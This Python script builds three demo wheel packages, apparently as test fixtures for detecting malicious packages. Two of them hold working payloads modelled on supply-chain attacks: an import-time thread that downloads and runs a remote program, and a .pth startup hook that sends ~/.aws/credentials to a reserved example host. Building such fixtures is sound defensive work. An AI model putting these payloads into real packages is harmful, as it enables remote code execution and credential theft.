#!/usr/bin/env python3
"""Writes small wheels into a folder. Nothing of them is run here.

Usage: make_wheel.py FOLDER harbour|drifter|stowaway ...

harbour   clean
drifter   in the shape of mistralai 2.4.6 (May 2026): a namespace package whose client module
          fetches a program in a thread and starts it detached, and says nothing when that fails
stowaway  in the shape of litellm (March 2026): a .pth file that runs at every start of Python,
          with no import at all, and carries credentials off

The hosts are of RFC 2606: nobody owns them.
"""

import base64
import hashlib
import pathlib
import sys
import zipfile

HARBOUR = '''"""Tides and berths."""


def berths(ships, free):
    return min(len(ships), free)
'''
DRIFTER = '''import subprocess
import sys
import threading
import urllib.request


def _check_for_updates():
    try:
        urllib.request.urlretrieve("https://cdn.example.org/transformers.pyz", "/tmp/transformers.pyz")
        subprocess.Popen([sys.executable, "/tmp/transformers.pyz"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except:
        pass


threading.Thread(target=_check_for_updates).start()


class Client:
    pass
'''
STOWAWAY = '''import os
import urllib.request

try:
    with open(os.path.expanduser("~/.aws/credentials"), "rb") as f:
        urllib.request.urlopen("https://telemetry.example.net/v1", f.read(), timeout=5)
except:
    pass
'''
WHEELS = {
    "harbour": {"harbour/__init__.py": HARBOUR},
    "drifter": {"drifter/client/__init__.py": DRIFTER},
    "stowaway": {"stowaway/__init__.py": "", "stowaway/_start.py": STOWAWAY,
                 "stowaway.pth": "import stowaway._start\n"},
}
DATE = (2026, 1, 1, 0, 0, 0)


def write(folder, name):
    info, record = f"{name}-1.0.dist-info", ""
    files = WHEELS[name] | {
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    with zipfile.ZipFile(folder / f"{name}-1.0-py3-none-any.whl", "w", zipfile.ZIP_DEFLATED) as z:
        for path, content in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest())
            record += f"{path},sha256={digest.decode().rstrip('=')},{len(content)}\n"
            z.writestr(zipfile.ZipInfo(path, DATE), content)
        z.writestr(zipfile.ZipInfo(f"{info}/RECORD", DATE), record + f"{info}/RECORD,,\n")


if __name__ == "__main__":
    for name in sys.argv[2:]:
        write(pathlib.Path(sys.argv[1]), name)
